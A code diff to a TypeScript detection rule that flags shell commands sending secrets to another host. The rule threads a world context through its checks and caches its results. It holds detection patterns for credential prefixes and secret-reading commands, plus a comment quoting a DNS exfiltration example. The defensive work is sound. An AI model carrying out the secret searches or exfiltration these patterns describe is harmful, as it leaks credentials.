@@ -1,10 +1,12 @@
+import { isSecretPath } from "../files/judge-path.ts";
 import { type Analysis, type Arg, type Invocation, UNKNOWN } from "../invocation.ts";
 import { absolutePath } from "../path.ts";
 import type { Hit, Rule } from "../rule.ts";
+import type { World } from "../world.ts";
 import { feeders } from "./dataflow.ts";
 import { hit } from "./hit.ts";
 import { networkSink } from "./network-sink.ts";
-import { privatePath, secretPath } from "./secret-path.ts";
+import { isPrivatePath } from "./private-path.ts";
 
 /** Secrets that flow into a command which sends them to another host. */
 export const sendSecret: Rule = {
@@ -40,10 +42,10 @@ export const sendSecret: Rule = {
   }),
 };
 
-function checkSend(invocation: Invocation, _world: unknown, analysis: Analysis): Hit | undefined {
+function checkSend(invocation: Invocation, world: World, analysis: Analysis): Hit | undefined {
   const sink = networkSink(invocation);
   if (sink === undefined) return undefined;
-  const stop = (arg: Arg): boolean => isSensitive(arg, invocation, true);
+  const stop = (arg: Arg): boolean => isSensitive(arg, invocation, world, true);
   if (sink.paths.some(stop)) return hit(invocation);
   if (sink.stdin && invocation.stdin.kind === "file" && stop(invocation.stdin.path))
     return hit(invocation);
@@ -52,11 +54,22 @@ function checkSend(invocation: Invocation, _world: unknown, analysis: Analysis):
     args: [...sink.paths, ...sink.words],
     files: true,
   });
-  return flows.some((source) => readsSecret(source)) ? hit(invocation) : undefined;
+  return flows.some((source) => readsSecret(source, world)) ? hit(invocation) : undefined;
 }
 
+/** Many commands may be fed by the same one. */
+const READERS = new WeakMap<Invocation, boolean>();
+
 /** True when the command's output carries secret or private data. */
-function readsSecret(invocation: Invocation): boolean {
+function readsSecret(invocation: Invocation, world: World): boolean {
+  const known = READERS.get(invocation);
+  if (known !== undefined) return known;
+  const reads = showsSecret(invocation, world);
+  READERS.set(invocation, reads);
+  return reads;
+}
+
+function showsSecret(invocation: Invocation, world: World): boolean {
   const { program, args, stdin } = invocation;
   const words = args.map((arg) => arg.value);
   if (program === "env" || program === "printenv" || program === "set" || program === "export") {
@@ -80,13 +93,13 @@ function readsSecret(invocation: Invocation): boolean {
     : args;
   if (words.includes("--no-recursion")) return false;
   const searches = operands !== args;
-  if (operands.some((arg) => isSensitive(arg, invocation, !searches))) return true;
+  if (operands.some((arg) => isSensitive(arg, invocation, world, !searches))) return true;
   if (program === "tar" && words.some((word) => /^(?:-T|--files-from)/.test(word))) return true;
   const searchesSecrets =
     /^[ef]?grep$/.test(program) &&
     /AKIA|BEGIN [A-Z ]*PRIVATE KEY|ghp_|sk-|xox[bp]-/.test(words.join(" "));
   if (searchesSecrets && words.some((word) => /^-[a-zA-Z]*[rR]/.test(word))) return true;
-  return stdin.kind === "file" && isSensitive(stdin.path, invocation, true);
+  return stdin.kind === "file" && isSensitive(stdin.path, invocation, world, true);
 }
 
 const PRINTS_SECRET: readonly RegExp[] = [
@@ -102,12 +115,17 @@ const PRINTS_SECRET: readonly RegExp[] = [
   /^history\b/,
 ];
 
-function isSensitive(arg: Arg, invocation: Invocation, alsoPrivate: boolean): boolean {
+function isSensitive(
+  arg: Arg,
+  invocation: Invocation,
+  world: World,
+  alsoPrivate: boolean,
+): boolean {
   const text = arg.value.replace(/^[\w-]*=@?|^@/, "").replace(/^if=/, "");
   if (text === "" || text.startsWith("-") || /^[a-z]+:\/\//i.test(text)) return false;
   if (text.includes(" ") || text === UNKNOWN) return false;
-  const path = absolutePath(text, invocation.cwd);
-  return secretPath(path) || (alsoPrivate && privatePath(path));
+  if (alsoPrivate && isPrivatePath(absolutePath(text, invocation.cwd))) return true;
+  return isSecretPath(text, world, invocation.cwd);
 }
 
 /** Secrets whose only way out is a name: `dig $(cat key).x.example`. */
